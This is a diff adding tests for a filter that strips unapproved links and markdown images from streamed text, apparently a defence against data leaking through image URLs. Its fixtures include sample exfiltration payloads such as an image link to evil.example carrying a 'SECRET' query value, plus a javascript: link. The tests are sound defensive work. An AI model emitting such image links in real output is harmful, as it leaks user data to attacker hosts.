@@ -1,0 +1,58 @@
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from domain.links import REMOVED, LinkStream, strip_links
+
+TEXTS = [
+    "See https://intranet.example/a_(b) and [terms](https://good.example/doc), or /local/path.",
+    "Counted at http://evil.example/p.png?d= with the reader's words.",
+]
+
+
+@pytest.mark.parametrize(
+    ("written", "passed_on"),
+    [
+        ("Plain words, with http and www and data! Yes! [1] ok.", None),
+        ("A [form](https://good.example/doc) [1], https://intranet.example/a_(b). [Here](/local/path).", None),
+        ("Use vec![1] in Rust.", None),
+        ("![x](http://evil.example/p.png?d=SECRET) after", "[x] after"),
+        ("![x](http://evil.example/p.png?d=) after", "[x](http://evil.example/p.png?d=) after"),
+        ("[1](http://evil.example) and [a]( <https://evil.example/x> \"t\").", "[1] and [a]."),
+        ("Go to https://evil.example/x, now.", f"Go to {REMOVED}, now."),
+        ("HTTPS://EVIL.EXAMPLE/ or www.evil.example", f"{REMOVED} or {REMOVED}"),
+        ("<img src=//evil.example/a.png>", f"<img src={REMOVED}>"),
+        ("[r]: http://evil.example/x\n![z][r]", f"[r]: {REMOVED}\n[z][r]"),
+        ("[run](javascript:alert(1)) [out](/api/logout)", "[run] [out]"),
+    ],
+)  # fmt: skip
+def test_only_addresses_of_the_texts_pass_and_images_never(written: str, passed_on: str | None) -> None:
+    assert strip_links(written, TEXTS) == (written if passed_on is None else passed_on)
+
+
+PIECES = st.sampled_from(
+    ["!", "[", "]", "(", ")", " ", "a", "http", "s", "://", "evil.example", "/x", "www.", "\n", '"', "=", "//", "1"]
+)
+
+
+@given(st.lists(PIECES, max_size=25), st.lists(st.integers(1, 4), min_size=25, max_size=25))
+def test_the_output_does_not_depend_on_how_the_input_is_cut(pieces: list[str], lengths: list[int]) -> None:
+    text = "".join(pieces)
+    links, out, start = LinkStream(TEXTS), "", 0
+    for length in lengths * 5:
+        out += links.feed(text[start : start + length])
+        start += length
+    assert out + links.finish() == strip_links(text, TEXTS)
+
+
+@given(st.lists(PIECES, max_size=25))
+def test_nothing_that_is_left_can_be_loaded_or_followed(pieces: list[str]) -> None:
+    out = strip_links("".join(pieces), [])
+    assert not re.search(r"(?<!\w)!\[|(?:https?://|www\.)[^\s<>\"'`|\\^{}.,;:!?*_)\]]", out)
+
+
+def test_plain_words_are_not_held_back() -> None:
+    links = LinkStream([])
+    assert [links.feed(word) for word in ("The", " answer", " is", " plain")] == ["The", " answer", " is", " plain"]
